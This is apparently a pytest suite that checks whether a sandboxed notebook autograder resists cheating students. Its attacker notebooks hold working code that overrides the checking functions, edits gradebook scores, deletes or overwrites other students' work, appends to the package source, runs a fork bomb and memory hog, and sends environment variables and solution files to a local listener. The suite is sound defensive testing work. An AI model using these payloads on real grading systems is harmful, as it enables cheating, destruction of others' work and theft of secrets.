"""The attack suite: dishonest submissions graded alongside honest ones.

A course with one assignment (``01_background``) is released, and students hand
in notebooks. Honest ones: ``full`` (every answer right), ``twin`` (two answers
wrong: the known partial answers below) and two victims with full answers. Each
attacker answers exactly as ``twin`` does (or as ``guess_twin``) and adds one
attack, in a cell of its own or inside an answer cell:

1. ``fool_checks``: replaces check_function, check_answer, the comparison and
   the digest with functions that always pass;
2. ``gradebook``: opens the course's ``gradebook.db`` to raise its own scores and
   zero another student's;
3. ``other_students``: overwrites one victim's notebook with the blank release
   and deletes another's;
4. ``repository``: writes ``PWNED.txt`` into the course and the repository and
   appends code to the package's ``checks.py``;
5. ``memory_hog`` (a 3 GiB array), ``busy_loop`` (a loop the cell timeout stops)
   and ``fork_bomb`` (processes until refused);
6. ``exfiltrate``: connects to a listener this test opens on 127.0.0.1, prints
   every environment variable and tries to print the solution notebook;
7. ``guesser``: finds its multiple-choice answer by trying every option against
   the check a student can run.

``autograde`` grades them all (two sandboxes at a time), then ``export`` and
``feedback`` run. The tests check that attackers get exactly what their honest
answers deserve, that honest students' scores and files are untouched, that
the course folder changes only where the documented outputs go, that nothing
reached the listener, that no secret and no solution text is in any feedback,
and that the memory hog was stopped without stopping the others.
"""
import copy
import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tools"))
import sandbox  # noqa: E402

A = "01_background"
SECRET = "instructor-secret-7f3a9c"
WRONG = {   # the honest twin's two mistakes
    "conv_side_solution": "def conv_output_side(n, k, p=0, s=1):\n"
                          "    return (n + 2 * p - k) / s + 1      # / instead of //",
    "chain_solution": "dL_dw = 12\ndL_db = 3",
}
TWIN_LOSES = {"conv_side_check", "conv_side_hidden", "chain_db_check"}
PACKAGE_CHECKS = ROOT / "companion" / "teaching" / "checks.py"

pytestmark = pytest.mark.skipif(sandbox.problem() is not None,
                                reason=f"no sandbox on this machine: {sandbox.problem()}")


def _answers(source):
    """{answer cell: its solution code without the solution markers}."""
    out = {}
    for cell in source.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            out[meta["grade_id"]] = "\n".join(
                line for line in cell.source.splitlines()
                if "BEGIN SOLUTION" not in line and "END SOLUTION" not in line)
    return out


def _notebook(release, answers, extra_cell=None, prefix=None):
    """The release with its answer cells filled; ``extra_cell`` added before the first
    answer cell; ``prefix`` ({cell: code}) put at the top of answer cells."""
    nb = copy.deepcopy(release)
    first = None
    for i, cell in enumerate(nb.cells):
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            first = i if first is None else first
            cell.source = (prefix or {}).get(meta["grade_id"], "") + answers[meta["grade_id"]]
    if extra_cell is not None:
        nb.cells.insert(first, nbformat.v4.new_code_cell(extra_cell))
    return nb


def _attacks(root: Path) -> dict:
    """{student: (extra cell, answer-cell prefixes, answers: "twin" or "guess")}."""
    sub = root / "submitted"
    return {
        "fool_checks": (None, {"conv_side_solution": (
            "import companion.teaching as T\n"
            "import companion.teaching.answers as TA\n"
            "import companion.teaching.checks as TC\n"
            "import companion.teaching.compare as TK\n"
            "def _always(*args, **kwargs):\n"
            "    print('✓ all checks pass')\n"
            "T.check_function = TC.check_function = _always\n"
            "T.check_answer = TA.check_answer = _always\n"
            "check_function = check_answer = _always\n"
            "TK.compare_values = lambda *args, **kwargs: None\n"
            "TC.compare_values = TK.compare_values\n"
            "TC.judge_call = lambda *args, **kwargs: None\n"
            "TA.judge_answer = lambda *args, **kwargs: None\n"
            "TA.answer_digest = lambda answer, question: 'x' * 16\n")}, "twin"),
        "gradebook": ((
            "import sqlite3\n"
            f"for path in [{str(root / 'gradebook.db')!r}, '../gradebook.db']:\n"
            "    try:\n"
            "        db = sqlite3.connect(path)\n"
            "        db.execute('UPDATE grade SET auto_score = 99')\n"
            "        db.commit()\n"
            "        print('gradebook changed')\n"
            "    except Exception as exc:\n"
            "        print('gradebook:', type(exc).__name__, exc)\n"), None, "twin"),
        "other_students": ((
            "import os\n"
            f"victim = {str(sub / 'victim_overwritten' / A / (A + '.ipynb'))!r}\n"
            f"blank = {str(root / 'release' / A / (A + '.ipynb'))!r}\n"
            f"gone = {str(sub / 'victim_deleted' / A / (A + '.ipynb'))!r}\n"
            "for step in (lambda: open(victim, 'w').write(open(blank).read()),\n"
            "             lambda: os.remove(gone)):\n"
            "    try:\n"
            "        step()\n"
            "    except Exception as exc:\n"
            "        print(type(exc).__name__, exc)\n"), None, "twin"),
        "repository": ((
            "import companion.teaching.checks as TC\n"
            f"for path in [{str(root / 'PWNED.txt')!r}, {str(ROOT / 'exercises' / 'PWNED.txt')!r},\n"
            f"             {str(PACKAGE_CHECKS)!r}, TC.__file__]:\n"
            "    try:\n"
            "        with open(path, 'a') as fh:\n"
            "            fh.write('\\nPWNED = True\\n')\n"
            "    except Exception as exc:\n"
            "        print(type(exc).__name__, exc)\n"), None, "twin"),
        "memory_hog": ((
            "import numpy as np\n"
            "hog = np.ones(3 * 2 ** 30 // 8)   # 3 GiB\n"
            "hog[::4096] = 2.0\n"), None, "twin"),
        "busy_loop": ("while True:\n    pass\n", None, "twin"),
        "fork_bomb": ((
            "import os, time\n"
            "children = []\n"
            "try:\n"
            "    for _ in range(2000):\n"
            "        pid = os.fork()\n"
            "        if pid == 0:\n"
            "            time.sleep(30)\n"
            "            os._exit(0)\n"
            "        children.append(pid)\n"
            "except OSError as exc:\n"
            "    print('refused after', len(children), 'processes:', type(exc).__name__)\n"
            "for pid in children:\n"
            "    os.kill(pid, 9)\n"
            "    os.waitpid(pid, 0)\n"), None, "twin"),
        "exfiltrate": ((
            "import os, socket\n"
            "try:\n"
            "    s = socket.create_connection(('127.0.0.1', int(PORT)), timeout=3)\n"
            "    s.sendall(b'stolen')\n"
            "    print('connected')\n"
            "except Exception as exc:\n"
            "    print('network:', type(exc).__name__, exc)\n"
            "print(dict(os.environ))\n"
            f"for path in [{str(root / 'source' / A / (A + '.ipynb'))!r},\n"
            f"             {str(ROOT / 'exercises' / 'source' / A / (A + '.ipynb'))!r}]:\n"
            "    try:\n"
            "        print(open(path).read())\n"
            "    except Exception as exc:\n"
            "        print(type(exc).__name__, exc)\n"), None, "twin"),
        "guesser": (None, {"backprop_solution": (
            "from companion.teaching import check_answer as _check\n"
            "for option in ['a', 'b', 'c', 'd']:\n"
            "    try:\n"
            "        _check(option, question='answer_backprop', choices='abcd', quiet=True)\n"
            "        break\n"
            "    except AssertionError:\n"
            "        pass\n"
            "guessed = option\n")}, "guess"),
    }


def _listener():
    """A TCP server on 127.0.0.1 that records whatever reaches it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.settimeout(0.5)
    received, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    received.append(conn.recv(1024) or b"<connected>")
                except OSError:
                    received.append(b"<connected>")
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    return server.getsockname()[1], received, stop


def _tree(root: Path, skip=()) -> dict:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()
            and not any(str(p.relative_to(root)).startswith(s) for s in skip)}


OUTPUTS = ("autograded/", "feedback/", "gradebook.db", "grades.csv", "grades_by_cell.csv",
           "logs/")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacked") / "course"
    (root / "source").mkdir(parents=True)
    shutil.copytree(ROOT / "exercises" / "source" / A, root / "source" / A)
    for name in ("nbgrader_config.py", "nbgrader_plugins.py"):
        shutil.copy(ROOT / "exercises" / name, root / name)

    def grade(*args, env=None):
        return subprocess.run([sys.executable, str(ROOT / "tools" / "grade.py"), "--course",
                               str(root), *args], capture_output=True, text=True,
                              timeout=2400, env=env)
    out = {"release": grade("release", A)}
    assert out["release"].returncode == 0, out["release"].stdout + out["release"].stderr
    source = nbformat.read(root / "source" / A / f"{A}.ipynb", as_version=4)
    release = nbformat.read(root / "release" / A / f"{A}.ipynb", as_version=4)
    full = _answers(source)
    twin = dict(full, **WRONG)
    guess_twin = dict(twin, backprop_solution="guessed = 'a'\n" + "answer_backprop = guessed")
    port, received, stop = _listener()
    attacks = _attacks(root)
    notebooks = {"full": _notebook(release, full), "twin": _notebook(release, twin),
                 "guess_twin": _notebook(release, guess_twin),
                 "victim_overwritten": _notebook(release, full),
                 "victim_deleted": _notebook(release, full)}
    for student, (cell, prefix, kind) in attacks.items():
        answers = twin if kind == "twin" else dict(
            twin, backprop_solution="answer_backprop = guessed")
        if cell is not None:
            cell = f"PORT = {port}\n" + cell
        notebooks[student] = _notebook(release, answers, cell, prefix)
    for student, nb in notebooks.items():
        folder = root / "submitted" / student / A
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{A}.ipynb")
    before = _tree(root, OUTPUTS)
    package_before = PACKAGE_CHECKS.read_bytes()
    env = dict(os.environ, GRADING_TEST_SECRET=SECRET)
    try:
        out["autograde"] = grade("autograde", A, "--jobs", "2", "--timeout", "20", env=env)
        out["export"] = grade("export", env=env)
        out["feedback"] = grade("feedback", A, env=env)
    finally:
        stop.set()
        package_after = PACKAGE_CHECKS.read_bytes()
        if package_after != package_before:          # never leave the repository damaged
            PACKAGE_CHECKS.write_bytes(package_before)
        for pwned in (ROOT / "exercises" / "PWNED.txt",):
            pwned.unlink(missing_ok=True)
    with open(root / "grades.csv", newline="") as fh:
        rows = {r["student_id"]: r for r in csv.DictReader(fh)}
    with open(root / "grades_by_cell.csv", newline="") as fh:
        cells = {}
        for r in csv.DictReader(fh):
            cells.setdefault(r["student_id"], {})[r["cell"]] = float(r["points"])
    return {"root": root, "out": out, "rows": rows, "cells": cells, "before": before,
            "after": _tree(root, OUTPUTS), "received": received, "attacks": attacks,
            "package_changed": package_after != package_before,
            "notebooks": notebooks}


def test_the_commands_succeed(graded):
    for name, proc in graded["out"].items():
        assert proc.returncode == 0, f"{name}:\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"


def test_honest_students_get_their_marks(graded):
    cells = graded["cells"]
    assert all(v > 0 for v in cells["full"].values())
    assert {c for c, v in cells["twin"].items() if v == 0} == TWIN_LOSES
    for victim in ("victim_overwritten", "victim_deleted"):
        assert cells[victim] == cells["full"], victim


@pytest.mark.parametrize("student", ["fool_checks", "gradebook", "other_students",
                                     "repository", "memory_hog", "busy_loop", "fork_bomb",
                                     "exfiltrate"])
def test_an_attacker_gets_exactly_what_its_answers_deserve(graded, student):
    assert graded["rows"][student]["status"] == "graded"
    assert graded["cells"][student] == graded["cells"]["twin"], student


def test_guessing_finds_nothing_to_guess_with(graded):
    """The check a student can run says only whether an answer has the right form: the
    guesser keeps the first option, and is marked as if it had answered that."""
    assert graded["cells"]["guesser"] == graded["cells"]["guess_twin"]
    release = (graded["root"] / "release" / A / f"{A}.ipynb").read_text()
    import re
    assert not re.search(r"\b[0-9a-f]{16}\b", release), "a digest in the release is an oracle"


def test_honest_files_are_untouched_and_the_course_changes_only_where_documented(graded):
    assert graded["before"] == graded["after"]
    assert not (graded["root"] / "PWNED.txt").exists()
    assert not (ROOT / "exercises" / "PWNED.txt").exists()
    assert not graded["package_changed"], "the package's checks.py was changed"


def test_nothing_reaches_the_listener(graded):
    assert graded["received"] == []


def _texts(graded):
    root = graded["root"]
    for path in list((root / "feedback").rglob("*.html")) + \
            list((root / "autograded").rglob("*.ipynb")):
        yield path, path.read_text(encoding="utf-8", errors="replace")


def test_no_secret_and_no_solution_text_in_any_feedback(graded):
    source = (graded["root"] / "source" / A / f"{A}.ipynb").read_text()
    assert "default_rng(101)" in source and "BEGIN HIDDEN TESTS" in source
    for path, text in _texts(graded):
        for forbidden in (SECRET, "BEGIN SOLUTION", "BEGIN HIDDEN TESTS",
                          "default_rng(101)", "default_rng(102)"):
            assert forbidden not in text, (path, forbidden)
    # the honest students' pages name no folder of the instructor's machine
    for student in ("full", "twin", "victim_overwritten", "victim_deleted"):
        page = graded["root"] / "feedback" / student / A / f"{A}.html"
        text = page.read_text(encoding="utf-8")
        assert str(ROOT) not in text and str(graded["root"]) not in text, student


def test_the_memory_hog_is_stopped_and_the_others_are_not(graded):
    log = json.loads((graded["root"] / "autograded" / "memory_hog" / A / "result.json")
                     .read_text())
    assert any("memory" in item for item in log["integrity"]["limits"]), log["integrity"]
    assert "memory" in graded["rows"]["memory_hog"]["integrity"]
    for student in ("full", "twin", "victim_overwritten", "victim_deleted"):
        assert graded["rows"][student]["integrity"] == "", student


def test_the_other_limits_are_reported(graded):
    rows = graded["rows"]
    assert "timed out" in rows["busy_loop"]["integrity"]
    assert "process limit" in rows["fork_bomb"]["integrity"] or \
        "refused after" in (graded["root"] / "autograded" / "fork_bomb" / A /
                            f"{A}.ipynb").read_text()


def test_the_integrity_report_says_what_each_attacker_tried(graded):
    rows = graded["rows"]
    assert "uses the checking code" in rows["fool_checks"]["integrity"]
    for student in ("other_students", "repository"):
        assert "outside its sandbox" in rows[student]["integrity"], rows[student]
    assert "network" in rows["exfiltrate"]["integrity"]
    for student in graded["attacks"]:
        result = json.loads((graded["root"] / "autograded" / student / A / "result.json")
                            .read_text())
        integrity = result["integrity"]
        assert integrity["sha256_before"] == integrity["sha256_after"]
        row = rows[student]
        assert row["sha256_before"] == row["sha256_after"] == integrity["sha256_before"]
        submitted = graded["root"] / "submitted" / student / A / f"{A}.ipynb"
        assert hashlib.sha256(submitted.read_bytes()).hexdigest() == row["sha256_after"]
        assert result["sandboxed"] is True
    log = (graded["root"] / "logs" / "autograde.log").read_text()
    assert "01_background repository: graded" in log and "outside its sandbox" in log
